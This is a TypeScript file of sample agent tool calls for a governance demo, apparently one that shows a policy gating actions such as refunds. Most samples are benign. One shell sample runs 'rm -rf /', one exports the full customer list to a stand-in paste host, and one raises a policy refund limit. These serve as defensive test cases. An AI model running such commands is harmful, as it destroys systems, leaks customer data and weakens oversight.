import type { EffectLevel, PlainJson } from '@countersign/contracts';
import type { DemoAction } from '@countersign/contracts/governance-kernel';
import type { z } from 'zod';

type Sample = {
  action: string;
  tool: string | null;
  resource: string;
  /** The effect of a call without a tool. The policy declares the effects of tools. */
  effectLevel?: EffectLevel;
  args: Record<string, PlainJson>;
};

/** The calls of the demo's buttons. An argument from the visitor replaces the argument of the same name. */
export const demoActions: Record<z.infer<typeof DemoAction>, Sample> = {
  read_ticket: {
    action: 'tool.call',
    tool: 'tickets.read',
    resource: 'ticket:1042',
    args: { ticket: 1042 },
  },
  draft_reply: {
    action: 'tool.call',
    tool: 'replies.draft',
    resource: 'ticket:1042',
    args: { ticket: 1042, text: 'Thank you for waiting. Your parcel left today.' },
  },
  small_refund: {
    action: 'tool.call',
    tool: 'payments.refund',
    resource: 'order:77',
    args: { order: 77, amount_minor: 2500, currency: 'EUR' },
  },
  large_refund: {
    action: 'tool.call',
    tool: 'payments.refund',
    resource: 'order:78',
    args: { order: 78, amount_minor: 250_000, currency: 'EUR' },
  },
  modify_policy: {
    action: 'policy.change',
    tool: null,
    resource: 'policy:demo',
    effectLevel: 'E3',
    args: { rule: 'small-refunds', amount_minor: 1_000_000 },
  },
  dangerous_shell: {
    action: 'tool.call',
    tool: 'shell.run',
    resource: 'host:support-1',
    args: { command: 'rm -rf /' },
  },
  export_customer_list: {
    action: 'data.egress',
    tool: 'customers.export',
    resource: 'customers:all',
    args: { destination: 'https://paste.example' },
  },
};
